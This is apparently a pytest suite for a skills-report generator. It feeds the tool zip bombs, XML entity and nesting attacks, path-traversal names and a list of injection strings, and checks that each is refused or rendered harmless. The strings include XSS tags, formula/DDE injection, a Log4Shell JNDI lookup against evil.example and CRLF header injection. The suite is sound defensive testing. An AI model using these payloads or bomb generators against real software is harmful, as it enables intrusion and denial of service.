"""Files and names that are meant to harm: refused before they cost memory, or read and harmless in every output.

The files are read by a process of their own under limits: one that breaks them fails a test instead of the machine.
"""

import html.parser
import io
import json
import re
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pikepdf
import pytest

from skillreport.read.archive import MAX_CELLS, MAX_PARTS, examine_archive
from skillreport.read.workbook import sheets_of
from skillreport.rules.claims import load_claims
from skillreport.write.pango import missing_pango
from tests.errors import files
from tests.errors.command_line import run
from tests.errors.files import Cell, Files, write_files

ROOT = Path(__file__).resolve().parent.parent
MOST_SECONDS, MOST_BYTES = 10.0, 1_500_000_000
RATINGS: list[list[Cell]] = [["Employee", "Skill", "Level"], ["E1", "Python", 3]]
GOOD = files.xlsx({"Ratings": RATINGS})
SHEET = "xl/worksheets/sheet1.xml"

needs_limits = pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such limits")
needs_pango = pytest.mark.skipif(missing_pango() is not None, reason="the PDF needs Pango")
needs_poppler = pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext reads the PDF")


# ---- files


def sheet_of(rows: bytes) -> bytes:
    """The workbook with these rows below its header."""
    head = b"".join(
        b'<c r="%c1" t="inlineStr"><is><t>%s</t></is></c>' % (65 + place, text.encode())
        for place, text in enumerate(("Employee", "Skill", "Level"))
    )
    start = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    return files.repacked(GOOD, {SHEET: start + b'<row r="1">' + head + b"</row>" + rows + b"</sheetData></worksheet>"})


def record(row: int) -> bytes:
    return b'<row r="%d"><c r="A%d"><v>7</v></c><c r="B%d"><v>1</v></c><c r="C%d"><v>3</v></c></row>' % (
        row,
        row,
        row,
        row,
    )


def cell_at(name: str) -> bytes:
    row = re.sub("[A-Z]", "", name)
    return record(2) + f'<row r="{row}"><c r="{name}"><v>1</v></c></row>'.encode()


def ods_of(rows: str) -> bytes:
    data = files.ods({"Ratings": RATINGS})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        content = archive.read("content.xml").replace(b"</table:table>", rows.encode() + b"</table:table>")
    return files.repacked(data, {"content.xml": content})


def repeated(rows: int, columns: int, text: str = "1") -> str:
    value = f'office:value-type="string"><text:p>{text}</text:p></table:table-cell>' if text else "/>"
    cell = f'<table:table-cell table:number-columns-repeated="{columns}" {value}'.replace(" />", "/>")
    return f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'


def lying(unpacked_bytes: int) -> bytes:
    """A workbook whose sheet declares a few bytes, with their checksum, and goes on for many more."""
    whole = sheet_of(record(2))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        begin = archive.read(SHEET)
    data = bytearray(files.repacked(whole, {SHEET: begin + b" " * unpacked_bytes}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        local = archive.getinfo(SHEET).header_offset
    central = data.index(SHEET.encode(), data.index(b"PK\x01\x02")) - 46
    for place in (local + 14, central + 16):
        struct.pack_into("<I", data, place, zlib.crc32(begin))
        struct.pack_into("<I", data, place + 8, len(begin))
    return bytes(data)


def one_text_in_many_cells(count: int) -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (row, row) for row in range(2, count + 2))
    texts = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
        + b"A" * 32_000
        + b"</t></si></sst>"
    )
    return files.repacked(sheet_of(rows), {"xl/sharedStrings.xml": texts})


def many_sheets_of_one_part(count: int) -> bytes:
    """A workbook whose sheets all lie in the same part, which goes down to Excel's last row."""
    whole = sheet_of(cell_at("Z1048576"))
    sheets = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, count))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        workbook = re.sub(
            rb"<sheets>.*</sheets>", f"<sheets>{sheets}</sheets>".encode(), archive.read("xl/workbook.xml")
        )
    return files.repacked(whole, {"xl/workbook.xml": workbook})


def with_doctype(xml: bytes, part: str = SHEET) -> bytes:
    return files.repacked(GOOD, {part: xml})


DOCTYPE = '<?xml version="1.0" encoding="{}"?>{}<!DOCTYPE worksheet [<!ENTITY a "aaaa">]><worksheet>&a;</worksheet>'


def blank_styled_rows() -> bytes:
    cells = b'<row r="%d"><c r="A%d" s="1"/><c r="C%d" s="1"/></row>'
    return sheet_of(record(2) + b"".join(cells % (row, row, row) for row in range(3, 1_048_577)))


def merged_ranges(count: int) -> bytes:
    merges = b"".join(b'<mergeCell ref="A%d:C%d"/>' % (row, row + 1) for row in range(3, 2 * count + 3, 2))
    with zipfile.ZipFile(io.BytesIO(sheet_of(record(2)))) as archive:
        xml = archive.read(SHEET).replace(b"</sheetData>", b"</sheetData><mergeCells>" + merges + b"</mergeCells>")
    return files.repacked(GOOD, {SHEET: xml})


def far_below(row: bytes) -> bytes:
    return sheet_of(record(2) + row)


NUMBER = '<table:table-cell office:value-type="float" office:value="1"/>'
FAR_RIGHT = f"<table:table-row>{'<table:table-cell/>' * 40}{NUMBER}</table:table-row>"
TOO_LARGE = "file-too-large"

# What a file is, how to make it, and what must be said: nothing, or a code.
FILES: Mapping[str, tuple[Callable[[], bytes], str | None]] = {
    "a bomb by its declared size": (lambda: files.zip_bomb(1_000_000_001), TOO_LARGE),
    "a bomb by its ratio": (lambda: files.zip_bomb(200_000_000, 100_000), "file-ratio"),
    "a real bomb": (lambda: sheet_of(b" " * 150_000_000), "file-ratio"),
    "one enormous part": (lambda: files.zip_bomb(600_000_000, 30_000_000), TOO_LARGE),
    "too many parts": (
        lambda: files.zipped({f"xl/workbook.xml{n or ''}": b"" for n in range(MAX_PARTS + 1)}),
        TOO_LARGE,
    ),
    "a part longer than declared": (lambda: lying(400_000_000), "file-unreadable"),
    "one text in many cells": (lambda: one_text_in_many_cells(60_000), TOO_LARGE),
    "a cell far to the right and down": (lambda: sheet_of(cell_at("XFD1048576")), TOO_LARGE),
    "a used range just too large": (lambda: sheet_of(cell_at("AB1048576")), TOO_LARGE),
    "a wide and flat used range": (lambda: sheet_of(cell_at("XFD3") + cell_at("A2500")), TOO_LARGE),
    "a far cell in single quotes": (
        lambda: far_below(b"<row r='1048576'><c r='CA1048576'><v>1</v></c></row>"),
        TOO_LARGE,
    ),
    "a far cell in small letters": (
        lambda: far_below(b'<row r="1048576"><c r="ca1048576"><v>1</v></c></row>'),
        TOO_LARGE,
    ),
    "a far row whose cells say nothing": (
        lambda: far_below(b'<row r="1048576">' + b"<c><v>1</v></c>" * 80 + b"</row>"),
        TOO_LARGE,
    ),
    "a far cell with a misleading attribute": (
        lambda: far_below(b'<row r="1048576"><c r="CA1048576" x="/>"><v>1</v></c></row>'),
        TOO_LARGE,
    ),
    "many sheets in one part": (lambda: many_sheets_of_one_part(40), TOO_LARGE),
    "a far row": (lambda: sheet_of(cell_at("A1048576")), None),
    "a million blank rows with a style": (blank_styled_rows, None),
    "a blank cell with a style, far away": (
        lambda: far_below(b'<row r="1048576"><c r="XFD1048576" s="1"/></row>'),
        None,
    ),
    "a workbook nested a million deep": (
        lambda: files.repacked(GOOD, {"xl/workbook.xml": b"<workbook>" + b"<a>" * 3_000_000}),
        "file-unreadable",
    ),
    "a sheet nested a million deep": (lambda: sheet_of(b"<a>" * 1_000_000), None),
    "many merged ranges": (lambda: merged_ranges(100_000), None),
    "an OpenDocument cell for all cells there are": (lambda: ods_of(repeated(1_048_576, 16_384)), TOO_LARGE),
    "an OpenDocument row for a million rows": (lambda: ods_of(repeated(1_048_576, 38)), TOO_LARGE),
    "an OpenDocument row for a million rows, in single quotes": (
        lambda: ods_of(repeated(1_048_576, 38).replace('"', "'")),
        TOO_LARGE,
    ),
    "an OpenDocument number beyond numbers": (lambda: ods_of(repeated(10**11, 10**11)), TOO_LARGE),
    "an OpenDocument text a million times": (lambda: ods_of(repeated(1_000_000, 1, "A" * 3_000)), TOO_LARGE),
    "an OpenDocument cell far away": (lambda: ods_of(repeated(1_048_570, 1, "") + FAR_RIGHT), TOO_LARGE),
    "blank OpenDocument rows to the end": (lambda: ods_of(repeated(1_048_570, 16_384, "")), None),
    "a text file with one enormous row": (lambda: b"a,b\n" * 100_000 + b"," * 400_000, TOO_LARGE),
    "a text file of one long word": (lambda: b"a" * 20_000_000, None),
    "a text file of quotation marks": (lambda: b'"' * 2_000_000, None),
    "a text file of opening brackets": (lambda: b"[" * 2_000_000, None),
    "a text file of open quotation marks": (lambda: b"a,b\n" + b'"x,1\n' * 50_000, "quote-open"),
    "a text file with a blank row after each row": (lambda: b"Ann,Lee,a\n\n" * 50_000, None),
    "a text file with a blank column after each column": (lambda: (b"a,,b,,c,,d,," * 100 + b"\n") * 200, None),
}

READ_ALL = r"""
import json, re, resource, sys, time
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (6_000_000_000, 6_000_000_000))
from skillreport.read.tables import find_tables
from skillreport.read.workbook import read_sheets
for name in sys.argv[1:]:
    start = time.process_time()
    loaded = read_sheets(Path(name))
    find_tables(loaded.value)
    said = {"codes": sorted({issue.code for issue in loaded.issues}), "seconds": time.process_time() - start}
    most = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # on Linux what the parent had counts too
    if sys.platform == "linux":
        most = int(re.search(r"VmHWM:\s*(\d+) kB", Path("/proc/self/status").read_text())[1]) * 1024
    print(json.dumps({"name": name, "bytes": most, **said}), flush=True)
"""


@dataclass(frozen=True, slots=True)
class Outcome:
    """What was said about a file, how long it took, and the most memory that the process had had by then."""

    codes: list[str]
    seconds: float
    bytes: int


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Outcome]:
    """All files read by one process, one after the other."""
    folder = tmp_path_factory.mktemp("hostile")
    paths = []
    for number, (make, _) in enumerate(FILES.values()):
        paths.append(folder / f"{number}.xlsx")
        paths[-1].write_bytes(make())
    done = subprocess.run(
        [sys.executable, "-c", READ_ALL, *map(str, paths)],
        cwd=ROOT, capture_output=True, encoding="utf-8", timeout=300, check=False,
    )  # fmt: skip
    for path in paths:
        path.unlink()
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(lines) == len(FILES), (list(FILES)[len(lines)], done.stderr[-2000:])
    return {
        name: Outcome(line["codes"], line["seconds"], line["bytes"]) for name, line in zip(FILES, lines, strict=True)
    }


@needs_limits
@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_costs_little_and_is_read_or_refused(name: str, outcomes: Mapping[str, Outcome]) -> None:
    _, code = FILES[name]
    outcome = outcomes[name]
    assert outcome.codes == ([code] if code else [])
    assert (outcome.seconds < MOST_SECONDS, outcome.bytes < MOST_BYTES) == (True, True), outcome


def test_the_largest_used_range_is_one_down_to_the_last_row_of_a_sheet_with_26_columns() -> None:
    assert 26 * 1_048_576 <= MAX_CELLS < 27 * 1_048_576


def test_a_used_range_is_as_wide_as_its_columns() -> None:
    """Three sheets down to the last row are more than the bound at 26 columns each, and far less at two."""
    space = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = b'<worksheet xmlns="' + space + b'"><sheetData>%b</sheetData></worksheet>'
    rows = b'<row r="1"><c r="B1"><v>2</v></c></row><row r="1048576"><c r="A1048576"><v>3</v></c></row>'
    data = files.xlsx({name: [["a"]] for name in ("One", "Two", "Three")})
    parts = {f"xl/worksheets/sheet{number}.xml": sheet % rows for number in (1, 2, 3)}
    assert not examine_archive("acme.xlsx", files.repacked(data, parts)).refused


def codes_of(data: bytes, name: str = "acme.xlsx") -> list[str]:
    return [issue.code for issue in sheets_of(name, data).issues]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("between", ["", "\n", "<!-- a comment -->", "<?style none?>\n<!-- < > <!-- --> "])
def test_a_document_type_is_refused_in_any_encoding_and_behind_comments(encoding: str, between: str) -> None:
    assert codes_of(with_doctype(DOCTYPE.format(encoding, between).encode(encoding))) == ["file-doctype"]


@pytest.mark.parametrize(
    "part",
    ["xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "docProps/core.xml", "[Content_Types].xml"],
)
def test_a_document_type_is_refused_in_any_part(part: str) -> None:
    assert codes_of(with_doctype(DOCTYPE.format("utf-8", "").encode(), part)) == ["file-doctype"]


def test_a_document_type_is_refused_in_a_sheet_of_another_ending() -> None:
    """The relations of the workbook say which part is a sheet, not its name."""
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    relations = "xl/_rels/workbook.xml.rels"
    parts[relations] = parts[relations].replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.dat")
    parts["xl/worksheets/sheet1.dat"] = DOCTYPE.format("utf-8", "").encode()
    assert codes_of(files.zipped(parts)) == ["file-doctype"]


def test_an_open_document_type_is_refused() -> None:
    data = files.ods({"Ratings": RATINGS})
    assert codes_of(files.repacked(data, {"content.xml": DOCTYPE.format("utf-8", "").encode()})) == ["file-doctype"]


def test_the_word_doctype_in_a_cell_is_text() -> None:
    assert codes_of(files.xlsx({"Ratings": [*RATINGS, ["<!DOCTYPE html>", "<!ENTITY", 3]]})) == []


@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "[Content_Types].xml"])
def test_a_part_that_is_there_twice_is_refused(part: str) -> None:
    assert codes_of(files.repacked(GOOD, {}, twice=part)) == ["file-part-twice"]


@pytest.mark.parametrize("twin", ["XL/Workbook.xml", "/xl/workbook.xml", "xl\\workbook.xml"])
def test_parts_that_programs_may_take_for_each_other_are_there_twice(twin: str) -> None:
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert codes_of(files.zipped({**parts, twin: b"<workbook/>"})) == ["file-part-twice"]


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "/etc/passwd", "C:\\Windows\\evil.dll", "xl/../../evil", "con", "a\0b"]
)
def test_a_part_with_a_path_for_a_name_goes_nowhere(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is unpacked to a disk."""
    monkeypatch.chdir(tmp_path)
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        parts = {part: archive.read(part) for part in archive.namelist()}
    assert codes_of(files.zipped({**parts, name: b"<evil/>"})) == []
    assert list(tmp_path.iterdir()) == []


def test_a_sheet_that_the_workbook_looks_for_outside_the_archive_is_not_found(tmp_path: Path) -> None:
    (tmp_path / "secret.xml").write_text("<worksheet><sheetData/></worksheet>", "utf-8")
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        relations = archive.read("xl/_rels/workbook.xml.rels")
    aside = relations.replace(b"worksheets/sheet1.xml", f"{tmp_path}/secret.xml".encode())
    loaded = sheets_of("acme.xlsx", files.repacked(GOOD, {"xl/_rels/workbook.xml.rels": aside}))
    assert not any((sheet.cells != "").any() for sheet in loaded.value)
    assert loaded.issues


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("acme.xlsx", files.encrypted_xlsx()),
        ("acme.xlsb", files.encrypted_xlsx()),
        ("acme.xls", files.encrypted_xls()),
        ("acme.ods", files.repacked(files.ods({"Ratings": RATINGS}), {
            "META-INF/manifest.xml": b"<manifest><file-entry><encryption-data/></file-entry></manifest>"})),
    ],
)  # fmt: skip
def test_an_encrypted_file_is_said_to_be_one(name: str, data: bytes) -> None:
    assert codes_of(data, name) == ["file-encrypted"]


def test_an_archive_under_a_password_is_said_to_be_encrypted() -> None:
    data = bytearray(GOOD)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.index(sign)
        data[start + place] |= 1
    assert codes_of(bytes(data)) == ["file-encrypted"]


@pytest.mark.parametrize("name", ["acme.csv", "acme.xls", "acme.ods", "acme.txt", "acme"])
def test_a_workbook_under_another_name_is_read(name: str) -> None:
    assert codes_of(GOOD, name) == []


@pytest.mark.parametrize("error", ["#SPILL!", "foo", "", "#", "&lt;x&gt;", "#REF!#REF!", "true"])
def test_an_error_value_of_any_kind_does_not_stop_the_reader(error: str) -> None:
    rows = record(2) + b'<row r="3"><c r="A3" t="e"><v>' + error.encode() + b'</v></c><c r="B3"><v>4</v></c></row>'
    loaded = sheets_of("acme.xlsx", sheet_of(rows))
    assert loaded.issues == ()
    assert loaded.value[0].cells[2, 1] == 4


# ---- text from cells, in every output


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "&lt;blink&gt; &amp; <blink>",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example","x")',
    "http://evil.example/",
    "\t=1+1",
    "\x1b[31mred\x07",
    "a\x00b\x08c",
    "rev\u202eersed\u2066",
    "zero\u200bwidth\ufeff",
    "../../../etc/passwd",
    "C:\\Windows\\System32",
    "CON",
    "nul.txt",
    "a/b\\c:d*e?",
    "]]></style><script>x",
    "*/ } body { display:none } /*",
    "[link](javascript:alert(1)) ![i](http://evil.example/x.png)",
    "%0d%0aSet-Cookie: x",
    "${jndi:ldap://evil.example}",
    "A" * 300,
    "¿Ünïcödé? – “quoted”",
)
Lines = Sequence[Sequence[object]]


def quoted(*cells: object) -> str:
    return ",".join('"' + str(cell).replace('"', '""') + '"' for cell in cells) + "\n"


def settings_for(client: str, workbook: str, more: str = "") -> str:
    """Settings; a JSON string is a YAML string."""
    return f"client: {json.dumps(client, ensure_ascii=False)}\nperiod: 2026-Q3\nworkbook: {workbook}\n{more}"


def hostile_engagement(formats: str) -> Files:
    """An engagement in which every name is hostile: of skills, people, roles, units, programmes and so on."""
    numbered = list(enumerate(HOSTILE))
    people = [f"E{number}{text}" for number, text in numbered]
    names = [f"Person {number} {text}" for number, text in numbered]
    chart: Lines = [
        (people[n], names[n], people[0] if n else "", f"Role {text}", f"Unit {text}", f"Team {text}", "senior")
        for n, text in numbered
    ]
    rated: Lines = [
        (people[n], f"Skill {text}", 1 + n % 3, group, names[n], "2026-09-01")
        for n, text in numbered
        for group in ("self", "manager")
    ]
    faulty = ("E1", "No such " + HOSTILE[0], "x" + HOSTILE[13], HOSTILE[4], HOSTILE[1], HOSTILE[6])
    held = zip(people, HOSTILE, strict=True)
    tables: Mapping[str, Lines] = {
        "skills": [
            ("Skill", "Category", "Group"),
            *((f"Skill {text}", ("hard", "soft")[n % 2], f"Group {HOSTILE[n % 5]}") for n, text in numbered),
        ],
        "org": [("Employee ID", "Name", "Manager ID", "Role", "Department", "Team", "Career level"), *chart],
        "requirements": [
            ("Role", "Skill", "Required level"),
            *((f"Role {text}", f"Skill {text}", 4) for text in HOSTILE),
        ],
        "ratings": [("Employee", "Skill", "Level", "Rater group", "Rater", "Date"), *rated, faulty],
        "training": [
            ("Employee", "Programme", "Start date", "Hours", "Category"),
            *((people[n], f"Course {text}", "2026-07-01", 8, "hard") for n, text in numbered),
        ],
        "courses": [
            ("Programme", "Skills", "Hours", "Category"),
            *((f"Course {text}", f"Skill {text}", 8, "soft") for text in HOSTILE),
        ],
        "certifications": [
            ("Employee", "Certification", "Date", "Expires"),
            *((person, f"Certificate {text}", "2026-01-01", "2026-11-01") for person, text in held),
        ],
        "objectives": [("Objective", "Owner"), *((f"Objective {text}", text) for text in HOSTILE)],
        "metrics": [
            ("Metric", "Period", "Value", "Unit"),
            ("Retention", "2026-Q3", 0.9, ""),
            (HOSTILE[0], "2026-Q3", 1, HOSTILE[1]),
        ],
    }
    sheets = {f"{name}.csv": "".join(quoted(*line) for line in lines) for name, lines in tables.items()}
    workbook = f"[{', '.join(name for name in sheets if name != 'org.csv')}]"
    more = f"org_chart: org.csv\nprivacy_threshold: 1\nformats: {formats}\n"
    return {"engagement.yml": settings_for(HOSTILE[0], workbook, more), **sheets}


def built(folder: Path, files_of: Files) -> Path:
    """The only folder that a build writes."""
    ended = run("build", write_files(folder / "given", files_of), "--output", folder / "output")
    assert ended.code == 0, ended.err[-2000:]
    text = ended.out + ended.err
    assert [char for char in text if not char.isprintable() and char != "\n"] == []
    [made] = (folder / "output").iterdir()
    return made


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    formats = "[html, xlsx]" if missing_pango() else "[html, pdf, xlsx]"
    return built(tmp_path_factory.mktemp("hostile"), hostile_engagement(formats))


class Page(html.parser.HTMLParser):
    """The tags, attributes and text of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.fixture(scope="module")
def page(report: Path) -> Page:
    found = Page()
    found.feed((report / "organisation.html").read_text("utf-8"))
    return found


OUR_LINKS = {claim.link for claim in load_claims("en").values() if claim.link}  # sources that the report itself names


def test_no_name_becomes_a_tag_an_event_or_an_address(page: Page) -> None:
    """The only script is the report's own, without which the policy of the page lets none run."""
    assert set(page.tags) & {"iframe", "object", "embed", "form", "link", "base", "blink"} == set()
    assert page.tags.count("script") == 1
    assert [item for item in page.attributes if item[1].startswith("on")] == []
    addresses = [value for tag, name, value in page.attributes if name in ("href", "src", "action", "xlink:href")]
    assert {tag for tag, _, value in page.attributes if value in OUR_LINKS} <= {"a"}
    assert [value for value in addresses if value not in OUR_LINKS and not value.startswith(("#", "data:image/"))] == []


def test_the_page_shows_hostile_names_as_text(page: Page) -> None:
    text = " ".join(page.text)
    assert "<script>alert(1)</script>" in text
    assert "{{ 7*7 }}" in text
    assert "49{%" not in text


def test_the_page_has_no_control_or_direction_characters(report: Path) -> None:
    text = (report / "organisation.html").read_text("utf-8")
    assert sorted(set(re.findall("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text))) == []


def test_no_style_breaks_out(report: Path) -> None:
    styles = re.findall("<style[^>]*>(.*?)</style>", (report / "organisation.html").read_text("utf-8"), re.S)
    assert not any("display:none }" in style or "Unit" in style for style in styles)


def test_the_workbook_has_no_formula_link_or_control_character(report: Path) -> None:
    workbook = openpyxl.load_workbook(report / "organisation.xlsx")
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" and "evil" in str(cell.value)] == []
    texts = [str(cell.value) for cell in cells if cell.data_type == "s"]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert any("=cmd|" in text for text in texts)
    assert [text for text in texts if re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)] == []
    with zipfile.ZipFile(report / "organisation.xlsx") as archive:
        assert [name for name in archive.namelist() if "external" in name.lower() or "vba" in name.lower()] == []
        xml = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<hyperlink" not in xml


def test_names_of_sheets_are_ones_that_excel_opens(report: Path) -> None:
    for name in openpyxl.load_workbook(report / "organisation.xlsx").sheetnames:
        assert len(name) <= 31
        assert not re.search(r"[\[\]:*?/\\]", name)


@needs_pango
def test_the_pdf_runs_and_opens_nothing(report: Path) -> None:
    with pikepdf.open(report / "organisation.pdf") as pdf:
        assert "/OpenAction" not in pdf.Root or pdf.Root.OpenAction.get("/S") is None
        assert "/AA" not in pdf.Root
        assert "/JavaScript" not in pdf.Root.get("/Names", {})
        assert len(pdf.attachments) == 0
        for sheet in pdf.pages:
            for link in sheet.get("/Annots", []):
                assert "/A" not in link or link.A.S == "/GoTo" or str(link.A.get("/URI")) in OUR_LINKS


@needs_pango
@needs_poppler
def test_the_pdf_shows_hostile_names_as_text(report: Path) -> None:
    text = subprocess.run(
        ["pdftotext", report / "organisation.pdf", "-"], capture_output=True, check=True
    ).stdout.decode()
    assert "<script>alert(1)" in re.sub(r"\s+", "", text)
    assert sorted(set(re.findall("[\x00-\x08\x0b\x0e-\x1f]", text))) == []


@pytest.mark.parametrize("name", ["figures", "issues", "manifest"])
def test_json_is_whole_and_safe_to_look_at(name: str, report: Path) -> None:
    text = (report / f"consultant/{name}.json").read_text("utf-8")
    json.loads(text)
    assert [char for char in text if not char.isprintable() and char != "\n"] == []


def test_a_report_is_the_same_bytes_whoever_is_named_in_it(report: Path, tmp_path: Path) -> None:
    formats = "[html, xlsx]" if missing_pango() else "[html, pdf, xlsx]"
    again = built(tmp_path, hostile_engagement(formats))
    for path in sorted(report.rglob("*.*")):
        assert (again / path.relative_to(report)).read_bytes() == path.read_bytes(), path.name


# ---- names of folders

DEVICES = re.compile(r"(con|prn|aux|nul|com\d|lpt\d)(\.|$)", re.I)


CLIENTS = (
    *(
        "../../../etc",
        "..",
        ".",
        "/etc/passwd",
        "C:\\Windows",
        "\\\\server\\share",
        "CON",
        "nul.txt",
        "COM1",
        "-rf",
        "~root",
    ),
    *(
        'a/b\\c:d*e?"<>|',
        "Acme\u202eexe.fdp",
        "Acme. ",
        "x" * 400,
        "😀😀",
        "مرحبا",
        "$HOME",
        "%TEMP%",
        "a\tb",
        "\u200b",
    ),
)


@pytest.mark.parametrize("client", CLIENTS)
def test_a_client_s_name_makes_one_plain_folder_inside_the_output_folder(client: str, tmp_path: Path) -> None:
    ratings = "Employee,Skill,Level,Date\nE1,Python,3,2026-09-01\n"
    settings = settings_for(client, "ratings.csv", "formats: [xlsx]\n")
    made = built(tmp_path, {"engagement.yml": settings, "ratings.csv": ratings})
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]{0,99}-2026-q3", made.name)
    assert not DEVICES.match(made.name)
    assert {path.name for path in tmp_path.iterdir()} == {"given", "output"}
    assert [path.name for path in (tmp_path / "output").iterdir()] == [made.name]


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("Acme & Co.", "Acme Co"),
        ("ACME", "acme"),
        ("Müller", "Muller"),
        ("x" * 100 + "a", "x" * 100 + "b"),
        ("R&D", "R-D"),
    ],
)
def test_clients_whose_names_come_out_the_same_do_not_overwrite_each_other(
    one: str, other: str, tmp_path: Path
) -> None:
    folders = []
    for number, client in enumerate((one, other, one)):
        settings = settings_for(client, "ratings.csv", "formats: [html]\n")
        given: Files = {
            "engagement.yml": settings,
            "ratings.csv": "Employee,Skill,Level,Date\nE1,Python,3,2026-09-01\n",
        }
        ended = run("build", write_files(tmp_path / str(number), given), "--output", tmp_path / "output")
        folders.append(Path(ended.out.splitlines()[0]).parent)
    assert folders[0] == folders[2] != folders[1]
    titles = [
        re.findall("<title>(.*?)</title>", (folder / "organisation.html").read_text("utf-8"))[0] for folder in folders
    ]
    assert titles[0] == titles[2] != titles[1]
